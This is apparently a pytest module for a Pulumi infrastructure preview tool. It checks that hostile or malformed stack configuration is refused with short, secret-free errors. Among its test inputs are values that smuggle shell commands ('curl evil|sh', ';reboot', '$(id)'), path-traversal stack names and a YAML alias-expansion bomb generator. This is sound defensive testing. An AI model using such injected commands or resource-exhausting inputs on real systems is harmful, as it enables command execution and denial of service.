"""Hostile stack configuration through `python -m preview`: every bad value, key, file and referenced output exits 2
with one bounded line naming the key (or file, or output and stack), and shows no secret."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pytest

from tests.hostile.conftest import Job, Pool, Project, Result, refused, run_table

NS = "task-service"
SECRET_TEXT = "v1:Zm9vYmFyLWNpcGhlcnRleHQ="
"""A `secure:` ciphertext: the hermetic preview cannot decrypt it, and must not print it either."""


@dataclass
class Case:
    id: str
    changes: dict[str, Any]
    fragments: tuple[str, ...]
    stack: str = "prod"
    secrets: tuple[str, ...] = ()


def _bomb(levels: int = 7) -> str:
    lines = ['    a0: &a0 ["xxxxxxxxxx","xxxxxxxxxx","xxxxxxxxxx","xxxxxxxxxx","xxxxxxxxxx","xxxxxxxxxx","xxxxxxxxxx"]']
    for level in range(1, levels):
        lines.append(f"    a{level}: &a{level} [{','.join([f'*a{level - 1}'] * 9)}]")
    return "\n".join(lines)


VALUES = [
    Case("true-is-not-a-number", {f"{NS}:canaryWeight": True}, (f"{NS}:canaryWeight must be of type integer",)),
    Case("number-with-newline", {f"{NS}:canaryWeight": "5\n"}, (f"{NS}:canaryWeight",)),
    Case("float-retention", {f"{NS}:logRetentionDays": 365.0}, (f"{NS}:logRetentionDays",)),
    Case("nested-true-storage", {f"{NS}:db.allocatedStorage": True}, (f"{NS}:db.allocatedStorage must be a whole number",)),
    Case("nested-text-storage", {f"{NS}:db.allocatedStorage": "100"}, (f"{NS}:db.allocatedStorage must be a whole number",)),
    Case("text-boolean", {f"{NS}:db.multiAz": "true"}, (f"{NS}:db.multiAz must be true or false",)),
    Case("fractional-min", {f"{NS}:autoscaling.min": 2.5}, (f"{NS}:autoscaling.min",)),
    Case("vpc-trailing-newline", {f"{NS}:network.vpcId": "vpc-0a1b2c3d4e5f60718\n"}, (f"{NS}:network.vpcId must be a VPC id",)),
    Case("vpc-upper-case", {f"{NS}:network.vpcId": "VPC-0A1B2C3D"}, (f"{NS}:network.vpcId",)),
    Case("subnet-one", {f"{NS}:network.dbSubnetIds": ["subnet-0a1b2c3d"]}, (f"{NS}:network.dbSubnetIds must list at least 2",)),
    Case("subnet-twice", {f"{NS}:network.dbSubnetIds": ["subnet-0a1b2c3d", "subnet-0a1b2c3d"]}, (f"{NS}:network.dbSubnetIds",)),
    Case("arabic-indic-account-in-arn",
         {f"{NS}:monolith.targetGroupArn": "arn:aws:elasticloadbalancing:ap-northeast-1:١٢٣٤٥٦٧٨٩٠١٢:targetgroup/x/0123abcd"},
         (f"{NS}:monolith.targetGroupArn must be a target group ARN",)),
    Case("accented-listener", {f"{NS}:monolith.listenerArn": "arn:aws:elasticloadbalancing:ap-northeast-1:123456789012:"
                                                           "listener/app/méga/0123abcd/0123abcd"},
         (f"{NS}:monolith.listenerArn",)),
    Case("secret-arn-newline", {f"{NS}:monolith.dbSecretArn": "arn:aws:secretsmanager:ap-northeast-1:123456789012:secret:x\n"},
         (f"{NS}:monolith.dbSecretArn",)),
    Case("host-with-space", {f"{NS}:monolith.dbHost": "db host.example"}, (f"{NS}:monolith.dbHost must be a host name",)),
    Case("email-newline", {f"{NS}:alarmEmails": ["ops@example.com\n"]}, (f"{NS}:alarmEmails",)),
    Case("email-non-ascii", {f"{NS}:alarmEmails": ["ü@example.com"]}, (f"{NS}:alarmEmails",)),
    Case("account-arabic-indic", {"aws:allowedAccountIds": ["١٢٣٤٥٦٧٨٩٠١٢"]}, ("aws:allowedAccountIds",)),
    Case("region-arabic-indic", {"aws:region": "ap-northeast-١"}, ("aws:region must be an AWS region",)),
    Case("image-latest-in-prod", {f"{NS}:service.image": "123456789012.dkr.ecr.ap-northeast-1.amazonaws.com/task-service:latest"},
         (f"{NS}:service.image must name a version tag or digest in a production stack",)),
    Case("image-upper-case-repo", {f"{NS}:service.image": "Task-Service:1.0"}, (f"{NS}:service.image must be an image",)),
    Case("image-without-tag", {f"{NS}:service.image": "task-service"}, (f"{NS}:service.image",)),
    Case("image-empty-path-component", {f"{NS}:service.image": "registry.example//task-service:1"}, (f"{NS}:service.image",)),
    Case("image-tag-too-long", {f"{NS}:service.image": "task-service:" + "t" * 129}, (f"{NS}:service.image",)),
    Case("image-short-digest", {f"{NS}:service.image": "task-service@sha256:abc"}, (f"{NS}:service.image",)),
    Case("image-shell", {f"{NS}:service.image": "task-service:1.0;curl evil|sh"}, (f"{NS}:service.image",)),
    Case("health-shell", {f"{NS}:service.healthCheckPath": "/health;reboot"}, (f"{NS}:service.healthCheckPath",)),
    Case("health-subshell", {f"{NS}:service.healthCheckPath": "/$(id)"}, (f"{NS}:service.healthCheckPath",)),
    Case("health-too-long", {f"{NS}:service.healthCheckPath": "/" + "a" * 1024}, (f"{NS}:service.healthCheckPath",)),
    Case("health-newline", {f"{NS}:service.healthCheckPath": "/health\n"}, (f"{NS}:service.healthCheckPath",)),
    Case("paths-four", {f"{NS}:route.pathPatterns": ["/a", "/b", "/c", "/d"]}, (f"{NS}:route.pathPatterns must list at most 3",)),
    Case("path-too-long", {f"{NS}:route.pathPatterns": ["/" + "a" * 128]}, (f"{NS}:route.pathPatterns items",)),
    Case("path-space", {f"{NS}:route.pathPatterns": ["/api/ta sks"]}, (f"{NS}:route.pathPatterns items",)),
    Case("path-wildcards", {f"{NS}:route.pathPatterns": ["/a*?*", "/b*??"]}, (f"{NS}:route.pathPatterns must hold at most 5 wildcards",)),
    Case("backup-hour-25", {f"{NS}:db.backupWindow": "25:00-25:30"}, (f"{NS}:db.backupWindow must be a UTC window",)),
    Case("backup-digits-only", {f"{NS}:db.backupWindow": "1700-1730"}, (f"{NS}:db.backupWindow",)),
    Case("backup-ten-minutes", {f"{NS}:db.backupWindow": "17:00-17:10"}, (f"{NS}:db.backupWindow must last at least 30 minutes",)),
    Case("maintenance-ten-minutes", {f"{NS}:db.maintenanceWindow": "sun:18:00-sun:18:10"},
         (f"{NS}:db.maintenanceWindow must last at least 30 minutes",)),
    Case("maintenance-bad-day", {f"{NS}:db.maintenanceWindow": "xyz:18:00-sun:19:00"}, (f"{NS}:db.maintenanceWindow",)),
    Case("windows-overlap", {f"{NS}:db.backupWindow": "18:00-18:30", f"{NS}:db.maintenanceWindow": "sun:18:15-sun:18:45"},
         (f"{NS}:db.backupWindow must not overlap maintenanceWindow",)),
    Case("windows-overlap-across-midnight", {f"{NS}:db.backupWindow": "00:00-00:30",
                                             f"{NS}:db.maintenanceWindow": "sat:23:50-sun:00:20"},
         (f"{NS}:db.backupWindow must not overlap",)),
    Case("tag-name", {f"{NS}:tags.Name": "mine"}, (f"{NS}:tags.Name must not be set",)),
    Case("tag-canary", {f"{NS}:tags.CanaryTargetGroup": "mine"}, (f"{NS}:tags.CanaryTargetGroup must not be set",)),
    Case("tag-managed-by", {f"{NS}:tags.ManagedBy": "me"}, (f"{NS}:tags.ManagedBy must not be set",)),
    Case("tag-aws-prefix", {f"{NS}:tags.aws:owner": "me"}, ("must not start with 'aws:'",)),
    Case("tags-too-many", {f"{NS}:tags": {f"k{i}": "v" for i in range(47)}}, (f"{NS}:tags must list at most 46",)),
    Case("tag-key-too-long", {f"{NS}:tags": {"k" * 129: "v"}}, (f"{NS}:tags.kkkkk", "must be a tag key")),
    Case("tag-value-too-long", {f"{NS}:tags.Owner": "v" * 257}, (f"{NS}:tags.Owner must be a tag value",)),
    Case("tag-value-newline", {f"{NS}:tags.Owner": "team\n"}, (f"{NS}:tags.Owner must be a tag value",)),
    Case("tag-key-hash", {f"{NS}:tags": {"cost#center": "1"}}, ("must be a tag key",)),
    Case("namespace-typo", {f"{NS}:db": ..., "task-servce:db": {"multiAz": True}}, ("'task-servce:db' is in namespace 'task-servce'",)),
    Case("namespace-no-dash", {"taskservice:canaryWeight": 5}, ("'taskservice:canaryWeight' is in namespace 'taskservice'",)),
    Case("unknown-key", {f"{NS}:dbb": {"multiAz": True}}, (f"{NS}:dbb is not a known key",)),
    Case("unknown-setting", {f"{NS}:db.multiAZ": True}, (f"{NS}:db.multiAZ is not a known setting",)),
    Case("null-is-not-zero", {f"{NS}:canaryWeight": None}, (f"{NS}:canaryWeight",)),
    Case("null-prefix", {f"{NS}:namePrefix": None}, (f"{NS}:namePrefix",)),
    Case("null-image-would-park", {f"{NS}:service.image": None}, (f"{NS}:service.image must not be null",)),
    Case("null-storage-ceiling", {f"{NS}:db.maxAllocatedStorage": None}, (f"{NS}:db.maxAllocatedStorage must not be null",)),
    Case("null-vpc", {f"{NS}:network.vpcId": None}, (f"{NS}:network.vpcId must not be null",)),
    Case("secure-where-an-id-goes", {f"{NS}:cognito.clientId": {"secure": SECRET_TEXT}},
         (f"{NS}:cognito.clientId", "(got a secret value)"), secrets=(SECRET_TEXT, "cannot decrypt")),
    Case("secure-top-level", {f"{NS}:canaryWeight": {"secure": SECRET_TEXT}}, (f"{NS}:canaryWeight", "got a secret value"),
         secrets=(SECRET_TEXT, "cannot decrypt")),
    Case("secure-malformed", {f"{NS}:cognito": {"secure": 5}}, (f"{NS}:cognito: 'secure' must hold the encrypted text",)),
    Case("huge-host", {f"{NS}:monolith.dbHost": "h " * 50_000}, (f"{NS}:monolith.dbHost", "...")),
    Case("huge-tags", {f"{NS}:tags": {f"k{i}": "v " * 300 for i in range(40)}}, (f"{NS}:tags.",)),
    Case("huge-key", {f"{NS}:" + "x" * 5000: 1}, ("is not a known key",)),
]


@pytest.mark.parametrize("case", VALUES, ids=[c.id for c in VALUES])
def test_a_bad_value_is_refused(case: Case, results: dict[str, Result]) -> None:
    refused(results[f"value-{case.id}"], *case.fragments, f"Pulumi.{case.stack}.yaml", secrets=case.secrets)


def _append(text: str) -> Callable[[Project], None]:
    return lambda p: p.write("Pulumi.prod.yaml", (p.root / "Pulumi.prod.yaml").read_text() + text)


def _prod_bytes(transform: Callable[[bytes], bytes]) -> Callable[[Project], None]:
    return lambda p: p.write("Pulumi.prod.yaml", transform((p.root / "Pulumi.prod.yaml").read_bytes()))


def _project_file(text: str | bytes) -> Callable[[Project], None]:
    return lambda p: p.write("Pulumi.yaml", text)


FILES = [
    ("bomb-in-tags", _append(f"  {NS}:bomb:\n{_bomb()}\n  {NS}:tags: *a6\n"), ("Pulumi.prod.yaml", "aliases expand it beyond")),
    ("bomb-in-a-typed-key", _prod_bytes(lambda b: b.replace(b"config:\n", f"config:\n  {NS}:bomb:\n{_bomb()}\n".encode(), 1)
                                        + f"  {NS}:alarmEmails: *a6\n".encode()), ("Pulumi.prod.yaml", "aliases")),
    ("recursive-alias", _append("  task-service:loop: &loop [*loop]\n"), ("Pulumi.prod.yaml",)),
    ("duplicate-top-level-key", _append(f"  {NS}:canaryWeight: 5\n"), ("Pulumi.prod.yaml", f"duplicate key '{NS}:canaryWeight'")),
    ("duplicate-nested-key", _append(f"  {NS}:extra:\n    a: 1\n    a: 2\n"), ("Pulumi.prod.yaml", "duplicate key 'a'")),
    ("non-utf8-stack-file", _prod_bytes(lambda b: b + b"  # caf\xe9\n"), ("Pulumi.prod.yaml is not UTF-8 text",)),
    ("stack-file-too-large", _prod_bytes(lambda b: b + b"#" * (1024 * 1024 + 1)), ("Pulumi.prod.yaml is larger than",)),
    ("stack-file-too-deep", _append(f"  {NS}:deep: " + "[" * 20_000 + "]" * 20_000 + "\n"), ("Pulumi.prod.yaml",)),
    ("stack-file-not-yaml", _append("  task-service:x: [unclosed\n"), ("Pulumi.prod.yaml is not valid YAML at line",)),
    ("stack-file-a-list", lambda p: p.write("Pulumi.prod.yaml", "- config\n"), ("Pulumi.prod.yaml must be a map",)),
    ("stack-config-a-list", lambda p: p.write("Pulumi.prod.yaml", "config: [1, 2]\n"), ("Pulumi.prod.yaml: 'config' must be a map",)),
    ("stack-key-two-colons", _append("  aws:config:region: ap-northeast-1\n"), ("config key 'aws:config:region' must be namespace:name",)),
    ("stack-key-not-text", _append("  7: seven\n"), ("Pulumi.prod.yaml: 'config' must be a map with text keys",)),
    ("project-config-a-list", _project_file("name: task-service\nconfig: [1, 2]\n"), ("Pulumi.yaml: 'config' must be a map",)),
    ("project-without-name", _project_file("runtime: python\n"), ("Pulumi.yaml must set 'name'",)),
    ("project-name-with-slash", _project_file("name: ../task-service\n"), ("Pulumi.yaml must set 'name'",)),
    ("project-type-unknown", _project_file("name: task-service\nconfig:\n  canaryWeight:\n    type: percent\n"),
     ("Pulumi.yaml: config 'canaryWeight' declares type 'percent'",)),
    ("project-non-utf8", _project_file(b"name: task-service\ndescription: caf\xe9\n"), ("Pulumi.yaml is not UTF-8 text",)),
    ("project-duplicate-key", _project_file("name: task-service\nname: other\n"), ("Pulumi.yaml", "duplicate key 'name'")),
    ("project-main-elsewhere", _project_file("name: task-service\nmain: " + "src/" * 100 + "\n"), ("Pulumi.yaml: 'main: src/",)),
]


@pytest.mark.parametrize("name,mutate,fragments", FILES, ids=[c[0] for c in FILES])
def test_a_malformed_stack_or_project_file_is_refused(name: str, mutate: Callable[[Project], None],
                                                      fragments: tuple[str, ...], results: dict[str, Result]) -> None:
    refused(results[f"file-{name}"], *fragments)


STACK_NAMES = ["../prod", "prod/../../x", "", "p" * 101, "pröd"]


@pytest.mark.parametrize("index", range(len(STACK_NAMES)), ids=[repr(s[:12]) for s in STACK_NAMES])
def test_a_stack_name_that_is_not_one_is_refused(index: int, results: dict[str, Result]) -> None:
    refused(results[f"stack-{index}"], "stack name")


REFERENCE = "stack-references/acme.myteacher.dev.json"


def _reference(change: Callable[[dict[str, Any]], Any]) -> Callable[[Project], None]:
    def mutate(p: Project) -> None:
        doc = json.loads((p.root / REFERENCE).read_text())
        change(doc)
        p.write(REFERENCE, json.dumps(doc))

    return mutate


REFERENCES = [
    ("vpc-with-newline", _reference(lambda d: d.update(vpcId="vpc-0a1b2c3d\n")),
     (f"{NS}:network.vpcId must be a VPC id", "in output 'vpcId' of stack acme/myteacher/dev")),
    ("missing-output", _reference(lambda d: d.pop("privateSubnetIds")),
     (f"{NS}:network.serviceSubnetIds is read from output 'privateSubnetIds' of stack acme/myteacher/dev, which does not exist",)),
    ("one-subnet", _reference(lambda d: d.update(isolatedSubnetIds=["subnet-0a1b2c3d"])),
     (f"{NS}:network.dbSubnetIds must list at least 2", "output 'isolatedSubnetIds'")),
    ("secret-not-an-arn", _reference(lambda d: d.update(dbSecretArn="hunter2")),
     (f"{NS}:monolith.dbSecretArn must be a Secrets Manager secret ARN", "output 'dbSecretArn'")),
    ("listener-a-boolean", _reference(lambda d: d.update(albHttpsListenerArn=True)), (f"{NS}:monolith.listenerArn",)),
    ("host-a-number", _reference(lambda d: d.update(dbAddress=5432)), (f"{NS}:monolith.dbHost",)),
    ("duplicate-output", lambda p: p.write(REFERENCE, '{"vpcId": "vpc-0a1b2c3d", "vpcId": "vpc-1a1b2c3d"}'),
     ("acme.myteacher.dev.json", "duplicate key 'vpcId'")),
    ("not-utf8", lambda p: p.write(REFERENCE, b'{"vpcId": "vpc-\xff"}'), ("acme.myteacher.dev.json", "not UTF-8")),
    ("a-list", lambda p: p.write(REFERENCE, "[1, 2]"), ("acme.myteacher.dev.json must hold a JSON object",)),
    ("nan", lambda p: p.write(REFERENCE, '{"vpcId": NaN}'), ("acme.myteacher.dev.json", "NaN is not a JSON number")),
]


@pytest.mark.parametrize("name,mutate,fragments", REFERENCES, ids=[c[0] for c in REFERENCES])
def test_a_bad_monolith_stack_output_is_refused_like_config(name: str, mutate: Callable[[Project], None],
                                                            fragments: tuple[str, ...], results: dict[str, Result]) -> None:
    refused(results[f"reference-{name}"], *fragments)


def test_a_null_section_means_its_defaults(results: dict[str, Result]) -> None:
    """The one place null is documented to mean "not set": a whole section (`task-service:autoscaling: null`)."""
    result = results["null-section"]
    assert result.code == 0 and not result.err, result.err


def _preview(stack: str, setup: Callable[[Project], None]) -> Callable[[Project], Job]:
    def make(project: Project) -> Job:
        setup(project)
        return Job("preview", project.argv(stack, "--no-policy"))

    return make


@pytest.fixture(scope="module")
def results(pool: Pool, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Result]:
    """Every case of this module, run on the pool at once."""
    cases: dict[str, Callable[[Project], Job]] = {}
    for case in VALUES:
        cases[f"value-{case.id}"] = _preview(case.stack, lambda p, c=case: p.set(c.stack, c.changes))
    for name, mutate, _ in FILES:
        cases[f"file-{name}"] = _preview("prod", mutate)
    for index, stack in enumerate(STACK_NAMES):
        cases[f"stack-{index}"] = _preview(stack, lambda p: None)
    for name, mutate, _ in REFERENCES:
        cases[f"reference-{name}"] = _preview("dev", mutate)
    cases["null-section"] = _preview("prod", lambda p: p.set("prod", {f"{NS}:autoscaling": None}))
    return run_table(pool, tmp_path_factory.mktemp("config"), cases)
